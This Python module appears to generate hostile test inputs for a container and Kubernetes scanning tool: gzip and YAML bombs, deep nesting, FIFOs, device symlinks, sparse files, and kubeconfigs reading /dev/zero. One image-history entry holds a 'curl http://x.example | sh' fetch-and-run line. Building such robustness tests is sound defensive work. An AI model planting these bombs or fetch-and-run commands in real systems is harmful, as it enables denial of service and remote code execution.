"""Hostile images, things that are no files, and kubeconfigs. Made at run time."""

from __future__ import annotations

import gzip
import io
import json
import os
import tarfile
from collections.abc import Callable
from pathlib import Path

from _hostile_make import DIGEST, Make
from _hostile_objects import listed


def _tar(members: dict[str, bytes]) -> bytes:
    into = io.BytesIO()
    with tarfile.open(fileobj=into, mode="w") as archive:
        for name, data in members.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(data)
            archive.addfile(entry, io.BytesIO(data))
    return into.getvalue()


def _archive(layer: bytes, config: bytes | None = None) -> bytes:
    """Make what `docker save` writes, around one layer."""
    said = (
        config
        or json.dumps({"architecture": "amd64", "os": "linux", "config": {}, "rootfs": {"type": "layers", "diff_ids": ["sha256:" + DIGEST]}}).encode()
    )
    return _tar(
        {"manifest.json": json.dumps([{"Config": "c.json", "RepoTags": ["a/b:1"], "Layers": ["l.tar"]}]).encode(), "c.json": said, "l.tar": layer}
    )


def _zeros(count: int) -> bytes:
    """Give a gzip stream of so many megabytes of zeros."""
    into = io.BytesIO()
    with gzip.GzipFile(fileobj=into, mode="wb") as stream:
        for _ in range(count):
            stream.write(bytes(1_000_000))
    return into.getvalue()


def _layer_of_names(count: int) -> bytes:
    return gzip.compress(_tar({f"d/{at:06}": b"" for at in range(count)}))


def _image(data: Callable[[], bytes]) -> Make:
    def make(folder: Path) -> None:
        (folder / "image.tar").write_bytes(data())

    return make


def _config(**said: object) -> bytes:
    return json.dumps({"architecture": "amd64", "os": "linux", "config": said, "rootfs": {"type": "layers", "diff_ids": []}}).encode()


IMAGES: dict[str, Make] = {
    "a layer of 600 MB of zeros": _image(lambda: _archive(_zeros(600))),
    "a file of 600 MB of zeros": _image(lambda: _archive(gzip.compress(_tar({"model.safetensors": bytes(600_000_000)}), 1))),
    "a pickle of 300 MB": _image(lambda: _archive(gzip.compress(_tar({"model.pkl": b"\x80\x04" + b"K\x01" * 150_000_000 + b"."}), 1))),
    "a database of 100 MB": _image(
        lambda: _archive(gzip.compress(_tar({"var/lib/dpkg/status": b"Package: a\nStatus: install ok installed\nVersion: 1\n\n" * 2_000_000}), 1))
    ),
    "300,000 files": _image(lambda: _archive(_layer_of_names(200_000))),
    "a configuration of variables": _image(lambda: _archive(b"", _config(Env=[f"V{at}=x" for at in range(60_000)]))),
    "a configuration of labels": _image(lambda: _archive(b"", _config(Labels={f"l{at}": "x" for at in range(60_000)}))),
    "a configuration of one long label": _image(
        lambda: _archive(b"", _config(Labels={"version": "x" * 800_000}, User="u" * 50_000, Cmd=["c" * 40_000]))
    ),
    "a configuration of depth": _image(lambda: _archive(b"", b'{"config":' + b"[" * 400_000 + b"]" * 400_000 + b"}")),
    "history": _image(
        lambda: _archive(
            b"",
            json.dumps(
                {"config": {}, "history": [{"created_by": f"RUN pip install x{at} && curl http://x.example | sh"} for at in range(9_000)]}
            ).encode(),
        )
    ),
    "tar in tar": _image(lambda: _tar({"manifest.json": _tar({"x": b"y" * 100_000})})),
    "an archive of names": _image(lambda: _tar({f"{at}.json": b"{}" for at in range(800)})),
}


def _links(folder: Path) -> None:
    for at in range(3_000):
        (folder / f"l{at}.yaml").symlink_to(f"l{at + 1}.yaml" if at % 2 else "/dev/zero")


def _pipes(folder: Path) -> None:
    for name in (
        "compose.yaml",
        ".env",
        "Dockerfile",
        ".dockerignore",
        ".gitignore",
        "Chart.yaml",
        "kustomization.yaml",
        "requirements.txt",
        "bom.json",
        "aiact-report.yaml",
    ):
        os.mkfifo(folder / name)
    (folder / "sub").mkdir()
    (folder / "sub" / "Dockerfile").write_text("FROM a\nCOPY . .\nRUN pip install -r r.txt\n")
    os.mkfifo(folder / "sub" / "r.txt")
    os.mkfifo(folder / "sub" / "Dockerfile.dockerignore")
    (folder / "sub" / "compose.yaml").write_text(
        "include: [p.yaml]\nservices: {s: {image: a, env_file: [p.env], label_file: p.env, extends: {file: p.yaml, service: x}}}\n"
    )
    for name in ("p.yaml", "p.env", ".env"):
        os.mkfifo(folder / "sub" / name)


def _devices(folder: Path) -> None:
    (folder / "compose.yaml").write_text(
        "include: [/dev/zero, zero.yaml]\nservices: {s: {image: a, env_file: [/dev/zero, /dev/stdin, /proc/self/environ], extends: {file: /dev/urandom, service: x}}}\n"
    )
    for name in ("zero.yaml", ".env", ".gitignore", ".dockerignore", "requirements.txt", "Chart.yaml"):
        (folder / name).symlink_to("/dev/zero")
    (folder / "Dockerfile").write_text("FROM a\nCOPY . .\nRUN pip install -r requirements.txt -r /dev/zero\n")


def _sparse(folder: Path) -> None:
    for name in ("big.yaml", "big.json", "Dockerfile", "bom.spdx.json", ".env", ".gitignore", ".dockerignore", "Chart.yaml", "aiact-report.yaml"):
        with (folder / name).open("wb") as file:
            file.truncate(40_000_000_000)
    for name in ("under.yaml", "under.json", "compose.yaml"):
        with (folder / name).open("wb") as file:
            file.truncate(31_000_000)


def _kubeconfig(content: str) -> Make:
    def make(folder: Path) -> None:
        (folder / "kubeconfig").write_text(content)

    return make


CONTEXT = "apiVersion: v1\nkind: Config\ncurrent-context: x\ncontexts: [{name: x, context: {cluster: c, user: u}}]\nclusters: [{name: c, cluster: {server: 'http://127.0.0.1:9'}}]\n"

THINGS: dict[str, Make] = {
    "links": _links,
    "pipes": _pipes,
    "devices": _devices,
    "sparse files": _sparse,
}
KUBECONFIGS: dict[str, Make] = {
    "a token file that is a device": _kubeconfig(CONTEXT + "users: [{name: u, user: {tokenFile: /dev/zero}}]\n"),
    "a certificate that is a device": _kubeconfig(
        CONTEXT.replace("{server", "{certificate-authority: /dev/zero, server")
        + "users: [{name: u, user: {client-certificate: /dev/zero, client-key: /dev/zero}}]\n"
    ),
    "a plug-in that prints for ever": _kubeconfig(
        CONTEXT + "users: [{name: u, user: {exec: {apiVersion: client.authentication.k8s.io/v1, command: cat, args: [/dev/zero]}}}]\n"
    ),
    "contexts without number": _kubeconfig(CONTEXT + "users: " + listed("{{name: u{0}}}", 40_000) + "\n"),
    "a bomb": _kubeconfig(
        "x-0: &x0 [a, a, a, a, a, a, a, a, a]\n" + "".join(f"x-{n}: &x{n} [{', '.join([f'*x{n - 1}'] * 9)}]\n" for n in range(1, 12))
    ),
    "depth": _kubeconfig("contexts: " + "[" * 400_000),
}
